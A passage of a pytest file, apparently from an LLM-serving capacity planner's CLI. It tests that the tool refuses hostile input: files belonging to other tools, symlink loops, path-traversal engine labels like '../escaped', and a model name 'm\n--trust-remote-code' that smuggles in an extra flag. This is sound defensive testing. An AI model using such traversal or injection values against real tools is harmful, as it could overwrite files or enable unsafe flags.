"""Hostile input, second round (2026-12-03): outputs that would have replaced a user's file or a
file outside --out, and numbers whose domain was open at one end. Each case was found by trying
it; each now exits 2 with one message and leaves every file as it was."""

from __future__ import annotations

import json
import os
import warnings
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

import cli
from planner.input.owned import HTML_GENERATOR, written_by_planner
from tests.test_hostile import SMALL  # the small problem of the first round

ROOT = Path(__file__).resolve().parents[1]
MINIMAL_HEADER = ("model,gpu,engine,cards,tp,pp,dp,ep,mode,concurrency,isl,osl,ttft_ms,tpot_ms,engine_version,"
                  "weight_dtype\n")


def run(*args, stdin: str | None = None) -> tuple[int, str]:
    r = CliRunner().invoke(cli.main, [str(a) for a in args], input=stdin)
    assert "Traceback" not in r.output
    return r.exit_code, r.output


def write(tmp_path: Path, data, name: str = "p.yaml") -> Path:
    p = tmp_path / name
    p.write_text(data if isinstance(data, str) else yaml.safe_dump(data), encoding="utf-8")
    return p


# ------------------------------------------------------------------------ other tools' files
@pytest.mark.parametrize("name, text", [
    ("index.html", "<!DOCTYPE html>\n<html><body>My dashboard</body></html>\n"),
    ("pom.xml", '<?xml version="1.0"?>\n<project/>\n'),
    ("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>\n'),
    ("tsconfig.json", '{"$schema": "https://json.schemastore.org/tsconfig", "compilerOptions": {}}'),
    ("package.json", '{"name": "x", "schema_version": 2, "scenarios": []}'),
])
def test_out_never_replaces_another_tools_page_or_json(tmp_path, name, text):
    """An HTML page, XML, SVG or JSON of another tool is the user's, whatever keys it holds:
    --out refuses it (exit 2) and it is left as it was."""
    mine = write(tmp_path, text, name)
    code, out = run("solve", write(tmp_path, SMALL), "--out", mine)
    assert code == 2 and "is not an output of plan" in out and mine.read_text() == text, out
    assert not written_by_planner(mine)


def test_plans_own_outputs_are_replaced_run_after_run(tmp_path):
    """What plan wrote is still replaced without --force: the sweep's page, table, chart and
    frontier JSON (written twice into one directory), a plan JSON and the JSON Schema."""
    prob = write(tmp_path, SMALL)
    for _ in range(2):
        code, out = run("sweep", prob, "--tpot", "30ms:50ms", "--points", "2", "--workers", "1",
                        "--out", tmp_path / "sweep")
        assert code == 0, out
    page = (tmp_path / "sweep" / "frontier.html").read_bytes()
    assert HTML_GENERATOR in page[:4096]
    for f in ("frontier.html", "frontier.json", "frontier.csv", "frontier.png"):
        assert written_by_planner(tmp_path / "sweep" / f), f
    for args in (("solve", prob, "--out", tmp_path / "plan.json"), ("schema", "--out", tmp_path / "s.json")):
        for _ in range(2):
            code, out = run(*args)
            assert code == 0, out


def test_an_output_of_plan_is_replaced_only_by_one_of_its_kind(tmp_path):
    """Anything plan had written was replaceable by any command: a calibration profile fitted for
    minutes became a JSON schema (`plan schema --out mine.yaml`) or a plan (a hostile-input hunt,
    2026-12-05). Another kind of output is refused without --force and leaves the file as it was;
    with --force it is replaced."""
    from planner.input.owned import PROFILE_HEADER
    profile = write(tmp_path, PROFILE_HEADER.decode() + "; edit by refitting, not by hand.\nname: mine\n", "mine.yaml")
    before = profile.read_text()
    prob = write(tmp_path, SMALL)
    for args in (("schema", "--out", profile), ("solve", prob, "--out", profile)):
        code, out = run(*args)
        assert code == 2 and "an output of plan of another kind" in out and profile.read_text() == before, out
    plan_json = tmp_path / "plan.json"
    assert run("solve", prob, "--out", plan_json)[0] == 0
    code, out = run("schema", "--out", plan_json)   # a plan is not a schema either
    assert code == 2 and "another kind" in out and json.loads(plan_json.read_text())["status"] == "optimal"
    assert run("schema", "--out", profile, "--force")[0] == 0 and profile.read_text() != before


def test_an_empty_file_may_be_replaced(tmp_path):
    """An empty file holds nothing to lose (e.g. made by `touch` before the run)."""
    empty = write(tmp_path, "", "plan.json")
    code, out = run("solve", write(tmp_path, SMALL), "--out", empty)
    assert code == 0 and json.loads(empty.read_text())["status"] == "optimal", out


# ------------------------------------------------------------------------ links and clashes
@pytest.mark.parametrize("target", ["plan.json", "missing/dir/x.json", "loop"])
def test_out_through_a_symbolic_link_is_refused(tmp_path, target):
    """A link (to a plan, dangling, or a loop) is never replaced by a regular file: exit 2, the
    link and its target untouched."""
    (tmp_path / "plan.json").write_text('{"schema_version": 1, "status": "optimal"}')
    link = tmp_path / "link.json"
    os.symlink(tmp_path / target if target != "loop" else link, link)
    code, out = run("solve", write(tmp_path, SMALL), "--out", link)
    assert code == 2 and "is a symbolic link" in out, out
    assert link.is_symlink() and (tmp_path / "plan.json").read_text() == '{"schema_version": 1, "status": "optimal"}'


@pytest.mark.parametrize("how", ["loop", "to a directory", "a loop above"])
def test_an_export_directory_through_a_symbolic_link_is_refused(tmp_path, how):
    """`plan export --out` and `plan solve --export-dir` at a link: a loop crashed both (exit 5,
    RuntimeError: Symlink loop); a link to a directory was replaced by the export's own directory
    (the link lost). Exit 2, the link untouched."""
    code, _ = run("solve", write(tmp_path, SMALL), "--out", tmp_path / "plan.json")
    assert code == 0
    (tmp_path / "real").mkdir()
    link = tmp_path / "link"
    if how == "a loop above":
        os.symlink(tmp_path / "b", tmp_path / "a")
        os.symlink(tmp_path / "a", tmp_path / "b")
        out, message = tmp_path / "a" / "deploy", "cannot be resolved"
    else:
        os.symlink(link if how == "loop" else tmp_path / "real", link)
        out, message = link, "is a symbolic link"
    for args in (("export", tmp_path / "plan.json", "--target", "vllm", "--out", out),
                 ("solve", write(tmp_path, SMALL), "--export", "vllm", "--export-dir", out)):
        code, text = run(*args)
        assert code == 2 and message in text, text
    assert how == "a loop above" or link.is_symlink()
    assert not any((tmp_path / "real").iterdir())


def test_two_outputs_at_one_path_are_refused(tmp_path):
    """--out and --chart (solve), --csv and --plot (whatif) naming one file: the second write
    would replace the first; exit 2 before any work."""
    day = ROOT / "problems" / "deepseek_day.yaml"
    code, out = run("solve", day, "--out", tmp_path / "x.html", "--chart", tmp_path / "x.html")
    assert code == 2 and "--chart" in out and "the same file as --out" in out, out
    code, out = run("whatif", write(tmp_path, SMALL), ROOT / "problems" / "whatif" / "h200_minus_20.yaml",
                    "--csv", tmp_path / "same.png", "--plot", tmp_path / "same.png")
    assert code == 2 and "the same file as --csv" in out, out
    assert not (tmp_path / "x.html").exists() and not (tmp_path / "same.png").exists()


@pytest.mark.parametrize("engine", ["../escaped", "/tmp/abs_escape", "..", "a/b"])
def test_calibrate_group_labels_never_leave_the_out_directory(tmp_path, engine):
    """The engine column names a profile file with --group-by engine: a label with a path in it
    is exit 2 before the fit, and nothing is written anywhere."""
    rows = "".join(f"llama-3.1-70b,h100,{engine},4,4,1,1,1,agg,{c},1024,256,{100 + c},{12 + c / 100},0.11.0,fp8\n"
                   for c in (1, 2, 4, 8))
    csv = write(tmp_path, MINIMAL_HEADER + rows, "m.csv")
    (tmp_path / "out").mkdir()
    before = set(tmp_path.rglob("*")) | set(Path("/tmp").glob("abs_escape*"))
    code, out = run("calibrate", csv, "--folds", "0", "--group-by", "engine", "--out", tmp_path / "out")
    assert code == 2 and "(the measurements' engine, or the deployment YAML's) cannot name a profile file" in out, out
    assert set(tmp_path.rglob("*")) | set(Path("/tmp").glob("abs_escape*")) == before


def test_validate_group_labels_never_load_a_profile_from_a_path(tmp_path):
    """validate --group-by engine loaded catalogs/calibration/LABEL.yaml, and a label with a path in
    it ('/tmp/x/evil') loaded /tmp/x/evil.yaml, any file the engine column pointed at. Such a
    label has no profile of its own: the points are predicted with --calibration."""
    evil = tmp_path / "evil.yaml"
    evil.write_text((ROOT / "catalogs" / "calibration" / "default.yaml").read_text().replace(
        "name: default", "name: evil", 1))
    rows = "".join(f"llama-3.1-70b,h100,{tmp_path / 'evil'},4,4,1,1,1,agg,{c},1024,256,{100 + c},{12 + c / 100},"
                   f"0.11.0,fp8\n" for c in (1, 2, 4, 8))
    csv = write(tmp_path, MINIMAL_HEADER + rows, "m.csv")
    code, out = run("validate", csv, "--folds", "0", "--group-by", "engine", "--json")
    assert code == 0, out
    notes = [line for line in out.splitlines() if line.startswith("note: ")]   # no engine plan knows (stderr)
    assert len(notes) == 1 and "engine: '" in notes[0], out
    out = "\n".join(line for line in out.splitlines() if not line.startswith("note: "))
    assert set(json.loads(out)["profiles"].values()) == {"default"}, out


def test_names_taken_from_paths_and_profiles_are_one_line(tmp_path):
    """Names the plan prints and writes into its JSON came unchecked from file names and profiles:
    `calibrate --out $'x\ny.yaml'` wrote a profile named 'x\ny' (now refused as any --out name with a
    control character), a profile's `name: "a\nb"`, a
    --calibration path or a config.json folder with a newline all made plans that printed a
    broken header and that `plan simulate` and `plan export` then refused. Each is refused where
    it is read."""
    csv = tmp_path / "m.csv"
    csv.write_bytes((ROOT / "tests" / "data" / "bench" / "minimal_sample.csv").read_bytes())
    bad = tmp_path / "x\ny.yaml"
    code, out = run("calibrate", csv, "--folds", "0", "--out", bad)
    assert code == 2 and "holds a control character (a newline, tab or escape)" in out and not bad.exists(), out
    profile = tmp_path / "ab.yaml"
    profile.write_text((ROOT / "catalogs" / "calibration" / "default.yaml").read_text().replace(
        "name: default", 'name: "a\\nb"', 1))
    llama = ROOT / "problems" / "llama70b_chat.yaml"
    code, out = run("solve", llama, "--calibration", profile)
    assert code == 2 and "ab.yaml: name: a name is one line of printable text" in out, out
    folder = tmp_path / "nl\ndir"
    folder.mkdir()
    (folder / "p.yaml").write_bytes((ROOT / "catalogs" / "calibration" / "default.yaml").read_bytes())
    code, out = run("solve", llama, "--calibration", folder / "p.yaml")
    assert code == 2 and "--calibration" in out and "control character '\\n'" in out, out
    cfg = tmp_path / "cf\ng"
    cfg.mkdir()
    (cfg / "config.json").write_text('{"hidden_size": 4096, "num_hidden_layers": 32, "num_attention_heads": 32, '
                                     '"num_key_value_heads": 8, "intermediate_size": 14336, "vocab_size": 128256}')
    code, out = run("eval", "--model", cfg / "config.json", "--gpu", "h100")
    assert code == 2 and "--model" in out and "one line of printable text" in out, out
    problem = write(tmp_path, {**SMALL, "model": str(cfg / "config.json")}, "cfg.yaml")
    code, out = run("solve", problem)
    assert code == 2 and "cfg.yaml: model: a name is one line of printable text" in out, out


def test_a_file_with_thousands_of_problems_gets_a_message_of_twenty_lines(tmp_path):
    """100,000 unknown keys printed 100,000 lines (6 s of suggestions); a message shows the first
    20 problems and counts the rest."""
    f = write(tmp_path, {**SMALL, **{f"k{i}": i for i in range(500)}})
    code, out = run("solve", f)
    lines = [line for line in out.splitlines() if line.strip()]
    assert code == 2 and len(lines) == 21, out
    assert lines[0].startswith(f"error: {f}: k") and "unknown key" in lines[0]
    assert lines[-1] == f"{f}: … and 480 more problems (the first 20 are shown)", lines[-1]


@pytest.mark.parametrize("args, message", [
    (("validate", "__CSV__", "--folds", "0", "--group-by", ""), "--group-by: empty; leave the option out"),
    (("calibrate", "__CSV__", "--folds", "0", "--group-by", "", "--out", "__OUT__"), "--group-by: empty"),
    (("calibrate", "__CSV__", "--folds", "0", "--name", "", "--out", "__OUT__"), "--name: empty"),
    (("calibrate", "__CSV__", "--folds", "0", "--name", "  ", "--out", "__OUT__"), "--name: empty"),
    (("validate", "__CSV__", "--folds", "0", "--deployment", ""), "--deployment: empty"),
    (("validate", "__CSV__", ""), "MEASUREMENTS: an empty path"),
    (("calibrate", "", "--out", "__OUT__"), "MEASUREMENTS: an empty path"),
    (("solve", ""), "Invalid value for 'PROBLEM': an empty path; give a file name"),
    (("solve", "__DENSE__", "--calibration", ""), "--calibration: empty; leave the option out instead"),
    (("eval", "--model", "llama-3.1-8b", "--gpu", "h100", "--calibration", ""),
     "--calibration: empty; leave the option out instead"),
    (("sweep", "__DENSE__", "--tpot", "20ms:50ms", "--dask", "", "--out", "__OUT__"),
     "--dask: empty; give a scheduler ADDRESS or 'local', or leave the option out"),
    (("sweep", "__DENSE__", "--tpot", "20ms,50ms", "--points", "500", "--out", "__OUT__"),
     "--points 500: every axis given is a list of values; --points sizes LOW:HIGH ranges"),
    (("sweep", " ", "--tpot", "20ms:50ms", "--out", "__OUT__"), "Invalid value for 'PROBLEM': an empty path"),
    (("whatif", "__DENSE__", ""), "Invalid value for '[SCENARIOS]...': an empty path"),
    (("whatif", "", "__DENSE__"), "Invalid value for 'BASE': an empty path"),
    (("simulate", ""), "Invalid value for 'PLAN.json': an empty path"),
    (("export", "", "--target", "vllm", "--out", "__OUT__"), "Invalid value for 'PLAN.json': an empty path"),
    (("validate", "__CSV__", "--folds", "0", "--deployment", "__DEP__"),
     "no file given needs it (the measurement YAML and the silicon and minimal CSVs say what each point measured)"),
    (("solve", "__DENSE__"), "precision.experts: llama-3.1-70b has no routed experts (a dense model); drop it"),
    (("eval", "--model", "llama-3.1-70b", "--gpu", "h100", "--experts", "fp4"), "--experts: llama-3.1-70b has no"),
    (("eval", "--model", "qwen3-235b-a22b", "--gpu", "h100", "--shared-experts", "fp8"),
     "--shared-experts: qwen3-235b-a22b has no shared experts"),
])
def test_empty_options_and_parts_a_model_lacks_are_refused(tmp_path, args, message):
    """Each was taken as something else without a word: an empty --group-by or --name as the
    option left out (a blank --name made a profile named '  '), an empty path as '.', a
    --deployment beside files that carry their own as nothing (an empty problem, scenario or plan
    path as '.: is a directory'), and 'fp4 experts' of a dense model were printed in the plan's
    header as if they meant something."""
    csv = tmp_path / "m.csv"
    csv.write_bytes((ROOT / "tests" / "data" / "bench" / "minimal_sample.csv").read_bytes())
    dense = write(tmp_path, {**yaml.safe_load((ROOT / "problems" / "llama70b_chat.yaml").read_text()),
                             "precision": {"weights": "fp8", "experts": "fp4"}}, "dense.yaml")
    subst = {"__CSV__": csv, "__OUT__": tmp_path / "out.yaml", "__DENSE__": dense,
             "__DEP__": ROOT / "tests" / "data" / "bench" / "dep.yaml"}
    code, out = run(*(subst.get(a, a) for a in args))
    assert code == 2 and message in out, out
    assert not (tmp_path / "out.yaml").exists()


def test_validate_says_how_many_folds_ran_and_calibrate_what_it_fitted_to(tmp_path):
    """--folds 50 over 3 configurations printed 'cross-validated (50-fold)' (3 ran: a fold holds
    whole configurations), --folds 0 'cross-validated (0-fold) … –'; a profile fitted to the
    user's own CSV said its parameters were 'fit to catalogs/measurements'."""
    rows = "".join(f"llama-3.1-8b,h100,vllm,{tp},{tp},1,1,1,agg,{c},1024,256,{40 + c / tp},{6 + c / 20 / tp},"
                   f"0.11.0,bf16\n" for tp in (1, 2, 4) for c in (4, 16))
    csv = write(tmp_path, MINIMAL_HEADER + rows, "mine.csv")
    code, out = run("validate", csv, "--folds", "50")
    assert code == 0 and "cross-validated (3-fold)" in out and "50-fold" not in out, out
    code, out = run("validate", csv, "--folds", "0")
    assert code == 0 and "no cross-validation" in out and "0-fold" not in out, out
    code, out = run("calibrate", csv, "--folds", "0", "--out", tmp_path / "mine.yaml")
    assert code == 0, out
    source = yaml.safe_load((tmp_path / "mine.yaml").read_text())["compute_efficiency"]["source"]
    assert source.startswith(f"fit to {tmp_path / 'mine.csv'} (6 points, "), source


def test_messages_say_what_is_wrong_with_a_path_or_a_name(tmp_path):
    """An --out under a file said 'directory m.csv does not exist'; a profile path not ending in
    .yaml said 'unknown calibration profile'; a profile fitted elsewhere under a shipped
    profile's name (--name default) printed as that profile in every plan made with it."""
    csv = tmp_path / "m.csv"
    csv.write_bytes((ROOT / "tests" / "data" / "bench" / "minimal_sample.csv").read_bytes())
    code, out = run("init", "--out", csv / "x.yaml")
    assert code == 2 and f"{csv} is a file, not a directory" in out, out
    profile = tmp_path / "p.json"
    profile.write_bytes((ROOT / "catalogs" / "calibration" / "default.yaml").read_bytes())
    code, out = run("solve", ROOT / "problems" / "llama70b_chat.yaml", "--calibration", profile)
    assert code == 2 and "p.json: a calibration profile is a .yaml file" in out, out
    for args in (("--name", "default", "--out", tmp_path / "mine.yaml"), ("--out", tmp_path / "vllm.yaml")):
        code, out = run("calibrate", csv, "--folds", "0", *args)
        assert code == 2 and "the name of a shipped profile" in out, out
    assert not (tmp_path / "mine.yaml").exists() and not (tmp_path / "vllm.yaml").exists()


def test_no_minus_zero_and_notes_that_name_the_right_knob(tmp_path):
    """`qps_fraction: [-0.0, …]` printed a period of '-0' req/s; a saving within the MIP gap
    printed '-0.0 %'; a trace beside an unused qps was told to use profile.qps_fraction, which a
    trace cannot take; fleet rates summing past 10⁹ said '1e+09 … above 1e+09'."""
    from planner.report.horizon import _percent
    assert _percent(-1e-15) == " (0.0 %)" and _percent(-0.0004) == " (0.0 %)" and _percent(0.123) == " (12.3 %)"
    assert _percent(None) == ""   # no percent of a fleet of cost 0
    from planner.input.problem import Problem
    wl = {**SMALL["workload"], "profile": {"period": "1h", "qps_fraction": [-0.0] + [1.0] * 23}}
    p = Problem.model_validate({**SMALL, "workload": wl})
    assert str(p.workload.profile.qps_fraction[0]) == "0.0"
    _day_trace(tmp_path, "day.csv")
    traced = write(tmp_path, {**SMALL, "workload": {**SMALL["workload"], "qps": 1000,
                                                   "trace": {"file": "day.csv", "scale": 10}}}, "t.yaml")
    r = CliRunner().invoke(cli.main, ["solve", str(traced), "--json"])
    assert r.exit_code == 0 and "use workload.trace.scale to scale it" in r.stderr, r.stderr
    from planner.input.fleet import FleetProblem
    k = {"model": "llama-3.1-8b", "workload": {"qps": 6e8, "input_tokens": 100, "output_tokens": 10},
         "slo": {"ttft": "2s", "tpot": "50ms"}}
    with pytest.raises(Exception, match=r"ask for 1,200,000,000 requests/s together, above 1,000,000,000"):
        FleetProblem.model_validate({"classes": [{**k, "name": "a"}, {**k, "name": "b"}], "gpus": ["h100"]})


def test_a_sweep_value_left_out_and_an_image_with_spaces_are_refused(tmp_path, small_plans):
    """`--tpot 20ms,,50ms` swept 20 and 50 without a word; `--image 'a b'` (or with a newline) was
    written into k8s.yaml and dynamo.yaml as `image: a b`."""
    code, out = run("sweep", write(tmp_path, SMALL), "--tpot", "20ms,,50ms", "--out", tmp_path / "sw")
    assert code == 2 and "--tpot: an empty value in '20ms,,50ms'" in out and not (tmp_path / "sw").exists(), out
    f = tmp_path / "p.json"
    f.write_text(json.dumps(small_plans[0]))
    for image in ("a b", "img\nname", ""):
        code, out = run("export", f, "--target", "k8s", "--image", image, "--out", tmp_path / "e")
        assert code == 2 and "a container image reference has no spaces or control characters" in out, out
    assert not (tmp_path / "e").exists()


def test_a_trace_scaled_to_nothing_names_its_scale(tmp_path):
    """trace.scale 1e-300 was blamed on 'workload.qps: 2.8e-302 requests/s is below 1e-15', a field
    the file does not write."""
    _day_trace(tmp_path, "day.csv")
    f = write(tmp_path, {**SMALL, "workload": {**SMALL["workload"], "trace": {"file": "day.csv", "scale": 1e-300}}})
    code, out = run("solve", f)
    assert code == 2 and "workload.trace.scale: 1e-300 makes the busiest period" in out and "below 1e-15" in out, out


def test_a_model_path_that_is_a_device_says_so():
    """`plan eval --model /dev/null` said "unknown model '/dev/null'" (as for a misspelt id)."""
    code, out = run("eval", "--model", "/dev/null", "--gpu", "h100")
    assert code == 2 and "/dev/null: not a regular file (a pipe, device or socket)" in out, out


@pytest.mark.parametrize("scaling, context", [
    (None, 32768),
    ({"type": "yarn", "factor": 4.0, "original_max_position_embeddings": 32768}, 131072),   # Qwen2.5's own advice
    ({"rope_type": "linear", "factor": 2}, 65536),
    ({"rope_type": "llama3", "factor": 8.0, "original_max_position_embeddings": 8192}, 32768),   # already in it
    ({"rope_type": "default"}, 32768),   # a factor of true: refused since 2026-12-05 (test_hf_ids)
])
def test_the_context_counts_the_configs_rope_scaling(tmp_path, scaling, context):
    """A config.json with YaRN scaling (Qwen2.5: 32,768 positions × 4) was noted as passing its
    context at 100,000-token prompts, which vLLM serves: the context is vLLM's max_model_len."""
    from planner.catalog.schemas import model_from_config_json
    cfg = {"model_type": "qwen2", "hidden_size": 1024, "num_hidden_layers": 4, "num_attention_heads": 8,
           "num_key_value_heads": 8, "intermediate_size": 2048, "vocab_size": 1000, "max_position_embeddings": 32768,
           **({"rope_scaling": scaling} if scaling else {})}
    (tmp_path / "config.json").write_text(json.dumps(cfg))
    assert model_from_config_json(tmp_path / "config.json").arch.context == context


def test_requests_longer_than_the_models_context_get_a_note(tmp_path):
    """A 200k-token prompt on Llama-3.1-8B (131,072 tokens of context) was planned without a word;
    engines refuse such requests unless RoPE scaling extends the context: a note on stderr, and
    none for requests that fit (a fleet's class is named)."""
    long = write(tmp_path, {**SMALL, "workload": {**SMALL["workload"], "input_tokens": 200_000}}, "long.yaml")
    r = CliRunner().invoke(cli.main, ["solve", str(long)])
    assert f"note: {long}: llama-3.1-8b: requests of up to 200,{SMALL['workload']['output_tokens']:03d} tokens " \
           f"(prompt and output) pass its context of 131,072 tokens (max_position_embeddings)" in r.stderr, r.stderr
    r = CliRunner().invoke(cli.main, ["solve", str(write(tmp_path, SMALL, "short.yaml"))])
    assert r.exit_code == 0 and "max_position_embeddings" not in r.stderr, r.stderr
    cls = {"model": "llama-3.1-8b", "slo": SMALL["slo"]}
    fleet = write(tmp_path, {"name": "f", "gpus": ["h100"], "solver": SMALL["solver"], "classes": [
        {**cls, "name": "chat", "workload": SMALL["workload"]},
        {**cls, "name": "books", "workload": {**SMALL["workload"], "input_tokens": 200_000}}]}, "fleet.yaml")
    r = CliRunner().invoke(cli.main, ["solve", str(fleet)])
    assert f"note: {fleet}: class 'books': llama-3.1-8b: requests of up to" in r.stderr, r.stderr
    assert "class 'chat'" not in r.stderr, r.stderr


# ------------------------------------------------------------------------ numbers
@pytest.mark.parametrize("override, expected", [
    ({"prefill_time_scale": -1}, "prefill_time_scale: must be a factor on step times: in [0.25, 100], got -1.0"),
    ({"decode_time_scale": 0}, "decode_time_scale: must be a factor on step times"),
    ({"decode_tokens_per_step": 100000}, "decode_tokens_per_step: must be accepted tokens per decode step: in [1, 64]"),
    ({"kv_bandwidth_scale": -1},
     "kv_bandwidth_scale: must be a factor on the KV read bandwidth (never above the nominal): in [0.01, 10]"),
    ({"moe_imbalance": 1e300}, "moe_imbalance: must be the busiest rank's load over the mean: in [1, 1000]"),
    ({"compute_efficiency": 5e-324}, "compute_efficiency: must be a fraction of the peak: in [0.001, 1]"),
    ({"layer_overhead_s": 1e300}, "layer_overhead_s: must be a time in seconds: in [0, 3600]"),
])
def test_calibration_overrides_have_a_domain(tmp_path, override, expected):
    """Each of these gave a plan with a negative TTFT, a TPOT of 0 or an internal error; now exit 2
    naming the parameter and its domain."""
    code, out = run("solve", write(tmp_path, {**SMALL, "calibration_overrides": override}))
    assert code == 2 and expected in out, out


@pytest.mark.parametrize("edit, expected", [
    ({"workload": {**SMALL["workload"], "input_tokens": {"values": [100, 2000], "weights": [1e308, 1e308]}}},
     "workload.input_tokens.weights[0]: Input should be less than or equal to 1000000000000"),
    ({"serving": {"max_decode_utilization_percent": 5e-324}},
     "serving.max_decode_utilization_percent: Input should be greater than 1"),
    ({"gpus": [{"id": "h100", "price_per_gpu_hour": 1e-310}]},
     "gpus[0].price_per_gpu_hour: 1e-310 is below 1e-12; write 0 for free"),
    ({"pricing": {"exchange_rate_per_rmb": 5e-324, "currency": "USD"}},
     "pricing.exchange_rate_per_rmb: 4.94066e-324 is below 1e-12; give the currency's units per RMB"),
    ({"pricing": {"sell_per_million_output_tokens": 1e308}},
     "pricing.sell_per_million_output_tokens: 1e+308 is above 1e+09 per million tokens; no real price"),
    ({"slo": {"ttft": "2s", "tpot": "1e300s"}}, "slo.tpot: Input should be less than or equal to 10000000"),
])
def test_numbers_open_at_one_end_are_closed(tmp_path, edit, expected):
    """A weight, utilisation, price or time so large or so small that a sum overflowed, a division
    underflowed or a table printed 300 digits: exit 2 naming the field."""
    code, out = run("solve", write(tmp_path, {**SMALL, **edit}))
    assert code == 2 and expected in out, out


def test_a_profile_period_shorter_than_a_second_is_refused(tmp_path):
    d = yaml.safe_load((ROOT / "problems" / "deepseek_day.yaml").read_text())
    d["workload"]["profile"]["period"] = "1e-300s"
    code, out = run("solve", write(tmp_path, d))
    assert code == 2 and "workload.profile.period: Input should be greater than or equal to 1" in out, out


def test_classes_sharing_a_model_cannot_sum_past_the_rate_domain(tmp_path):
    """Two classes of 6·10⁸ requests/s each pass alone; pools shared by them would serve 1.2·10⁹
    (it was an internal error)."""
    d = yaml.safe_load((ROOT / "problems" / "fleet_mix.yaml").read_text())
    for k in d["classes"]:
        if k["model"] == "llama-3.1-8b":
            k["workload"]["qps"] = 6e8
    code, out = run("solve", write(tmp_path, d))
    assert code == 2 and "the classes of model 'llama-3.1-8b' ask for 1,200,000,000 requests/s together" in out, out


def test_a_purchase_of_more_nodes_than_any_fleet_is_refused(tmp_path):
    scen = write(tmp_path, {"name": "buy", "buy": {"gpu": "h100", "nodes": 10**23, "price_per_node": 1e6,
                                                    "months": 36, "electricity_per_kwh": 0.6}}, "s.yaml")
    code, out = run("whatif", write(tmp_path, SMALL), scen)
    assert code == 2 and "buy.nodes: Input should be less than or equal to 1000000" in out, out


@pytest.mark.parametrize("cells, expected", [
    ("1e11,1024,256,100,12", "line 2: concurrency 1e+11 is outside [0.001, 1e+06]"),
    ("4,1024,99999999999,100,12", "line 2: output tokens 1e+11 is outside [1, 1e+07]"),
    ("4,1024,256,1e308,12", "line 2: TTFT (s) 1e+305 is outside [0.001, 100000]"),
    ("4,1024,256,5e-324,12", "line 2: TTFT (s) 0 is outside [0.001, 100000]"),
])
def test_a_measured_run_has_a_domain(tmp_path, cells, expected):
    """A benchmark value no run can have (a unit mistake, a corrupt file) made the fit's residuals
    infinite or printed a p90 error of 10¹⁹ %: exit 2 naming the row."""
    csv = write(tmp_path, MINIMAL_HEADER + f"llama-3.1-70b,h100,vllm,4,4,1,1,1,agg,{cells},0.11.0,fp8\n", "m.csv")
    code, out = run("validate", csv, "--folds", "0")
    assert code == 2 and expected in out, out


@pytest.mark.parametrize("edit, expected", [
    ({"schema_version": "x"}, "schema_version: 'x'; this plan reads plan files of version 1"),
    ({"schema_version": 999}, "schema_version: 999; this plan reads plan files of version 1"),
    ({"status": "infeasible"}, "status: 'infeasible'; a plan file holds a plan that was found"),
    ({"pools.utilization": 5.0}, "pools[0].utilization: Input should be less than or equal to 1"),
    ({"pools.tpot_s": 0}, "pools[0].tpot_s: Input should be greater than 0"),
    ({"pools.instances": 10**12}, "pools[0].instances: Input should be less than or equal to 1000000"),
    ({"model": "m\n--trust-remote-code"}, "model: a name is one line of printable text; it holds the control "
                                           "character '\\n'"),
    ({"problem": "p\rq"}, "problem: a name is one line of printable text"),
])
def test_a_hand_edited_plan_file_has_a_domain(tmp_path, edit, expected):
    """simulate and export read a plan file: a version or status plan never writes, a pool busier
    than its capacity, a TPOT of 0 or 10¹² instances is exit 2 naming the field (export wrote
    `replicas: 1000000000000` before)."""
    d = json.loads((ROOT / "tests" / "golden" / "solve" / "small_model_cheap_card.json").read_text())
    (key, value), = edit.items()
    if key.startswith("pools."):
        d["pools"][0][key.split(".")[1]] = value
    else:
        d[key] = value
    plan = write(tmp_path, json.dumps(d), "plan.json")
    for args in (("simulate", plan, "--requests", "300"), ("export", plan, "--target", "k8s", "--out", tmp_path / "x")):
        code, out = run(*args)
        assert code == 2 and expected in out, (args[0], out)
    assert not (tmp_path / "x").exists()


def test_the_plan_reader_knows_the_version_plan_writes():
    from planner.report.json import SCHEMA_VERSION
    from planner.studies.simulate.planfile import PLAN_SCHEMA_VERSION
    assert PLAN_SCHEMA_VERSION == SCHEMA_VERSION


def test_base_60_numbers_are_not_read_as_numbers(tmp_path):
    """YAML 1.1 reads `qps: 3:20` as 200 (base 60) and `ttft: 1:30` as 90; the planner's files
    read them as text, which the schema refuses. Quoted, plain and dotted numbers are unchanged."""
    from planner.input.files import read_yaml
    assert read_yaml(write(tmp_path, "a: 3:20\nb: 1:30.5\nc: 12\nd: 1.5\ne: -7\n", "y.yaml")) == \
        {"a": "3:20", "b": "1:30.5", "c": 12, "d": 1.5, "e": -7}
    code, out = run("solve", write(tmp_path, "name: x\nmodel: llama-3.1-8b\nworkload: {qps: 3:20, input_tokens: 500, "
                                   "output_tokens: 100}\nslo: {ttft: 2s, tpot: 50ms}\ngpus: [h100]\n"))
    expected = "workload.qps: Input should be a valid number, unable to parse string as a number (got '3:20')"
    assert code == 2 and expected in out, out


@pytest.mark.parametrize("args, expected", [
    (("init", "--gpus", "h100,h999"), "plan init: --gpus: unknown GPU 'h999'"),
    (("calibrate", "--folds", "0", "--name", "x\ny", "--out", "p.yaml"), "--name 'x\\ny': a name is one line"),
    (("sweep", "problems/deepseek_qps.yaml", "--tpot", "50ms", "--workers", "10000", "--out", "s"),
     "'--workers': 10000 is not in the range 1<=x<=256"),
])
def test_options_that_wrote_a_file_solve_refuses_or_spawned_without_bound(tmp_path, monkeypatch, args, expected):
    """init wrote a problem naming an unknown GPU (exit 0, then solve refused it); a profile name
    could carry a newline into every plan's header; --workers had no upper bound (10,000
    processes)."""
    monkeypatch.chdir(ROOT)
    code, out = run(*[a if a not in ("p.yaml", "s") else tmp_path / a for a in args])
    assert code == 2 and expected in out, out
    assert not (tmp_path / "p.yaml").exists() and not (tmp_path / "s").exists()


def test_an_empty_list_of_degrees_is_bad_input_not_infeasible(tmp_path):
    d = {**SMALL, "serving": {"parallelism": {"tp": []}}}
    code, out = run("solve", write(tmp_path, d))
    assert code == 2 and "serving.parallelism.tp: List should have at least 1 item" in out, out


@pytest.mark.parametrize("args", [
    ("solve", "problems/deepseek_qps.yaml", "--out", ""),
    ("sweep", "problems/deepseek_qps.yaml", "--tpot", "50ms", "--out", " "),
    ("whatif", "problems/deepseek_qps.yaml", "--csv", ""),
])
def test_an_empty_output_path_is_a_usage_error(monkeypatch, args):
    """`--out ""` (a shell variable left unset) printed the plan and wrote nothing, exit 0."""
    monkeypatch.chdir(ROOT)
    code, out = run(*args)
    assert code == 2 and "an empty path; give a file or directory name" in out, out


# ------------------------------------------------------------------------ third round
def _llama_config() -> dict:
    from planner.catalog.schemas import CATALOG_DIR
